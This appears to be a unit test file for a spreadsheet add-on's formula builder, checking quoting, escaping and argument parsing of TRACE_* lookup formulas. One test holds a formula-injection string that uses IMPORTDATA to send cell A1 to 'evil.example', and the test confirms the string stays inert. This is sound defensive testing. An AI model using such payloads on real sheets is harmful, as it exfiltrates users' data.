import { specOf } from '../../../../shared/catalogue/index';
import { readFormulaCall } from '../../../../shared/cells/formulas';
import { readArguments } from '../../../../shared/functions/arguments';
import { toFormulaText, type Formula } from '../../../../shared/panel/common/insert/insertion';
import {
  companiesNamed,
  companiesUsing,
  factsOf,
  partnersOf,
  sharedPartners,
  technologiesOf,
} from '../../../../shared/panel/explore/formulas';
import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';

const ANYWHERE = { country: '', industry: '' };

it.each<[Formula, string]>([
  [
    technologiesOf('stripe.com'),
    '=TRACE_TECH("stripe.com","name, category, vendor_name, first_detected_at, last_detected_at","layout=spill; headers=1")',
  ],
  [
    partnersOf('stripe.com', 25, true),
    '=TRACE_PARTNERS("stripe.com","name, domain, type, first_observed_at, last_observed_at, observation_count","layout=spill; headers=1; top=25")',
  ],
  [
    partnersOf('stripe.com', null, false),
    '=TRACE_PARTNERS("stripe.com","name, domain, first_observed_at, last_observed_at, observation_count","layout=spill; headers=1")',
  ],
  [
    companiesUsing('technology', 'shopify', ANYWHERE, 10),
    '=TRACE_TECH_COMPANIES("shopify","name, primary_domain, industry, employee_count, country","top=10")',
  ],
  [
    companiesUsing('vendor', 'Foo "Bar", Inc.', { country: "Cote d'Ivoire", industry: 'A; B' }, 10),
    `=TRACE_SEARCH("","name, primary_domain, industry, employee_count, country","vendor='Foo ""Bar"", Inc.'; country='Cote d''Ivoire'; industry='A; B'; top=10")`,
  ],
])('%j is %s', (formula, text) => {
  expect(toFormulaText(formula)).toBe(text);
});

/** As the sheet passes them. */
function argumentsOf(formula: Formula) {
  const call = readFormulaCall(toFormulaText(formula));
  return readArguments(
    specOf(call!.id),
    call!.args.map((argument) => (argument.is === 'value' ? argument.value : null)),
  );
}

it.each([
  ['facts', factsOf('stripe.com')],
  ['technologies', technologiesOf('stripe.com')],
  ['more partners than a formula cuts at', partnersOf('stripe.com', 5_000, true)],
  ['shared partners', sharedPartners('stripe.com', 'shopify.com', 25)],
])('the formula for %s is one that its function accepts', (_what, formula) => {
  expect(argumentsOf(formula).isBlank).toBe(false);
});

it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
  '%j stays one argument of one call',
  (payload) => {
    const formula = toFormulaText(technologiesOf(payload));
    expect(readFormulaCall(formula)?.args[0]).toEqual({ is: 'value', value: payload });
  },
);

it('names with quotes, commas and semicolons arrive as they are', () => {
  const { text, options } = argumentsOf(
    companiesNamed('Foo "Bar", Inc.; Ltd', { country: "a'b", industry: 'c; d, e' }, 3),
  );
  expect({
    text,
    country: options.given.get('country'),
    industry: options.given.get('industry'),
    top: options.top,
  }).toEqual({ text: 'Foo "Bar", Inc.; Ltd', country: "a'b", industry: 'c; d, e', top: 3 });
});
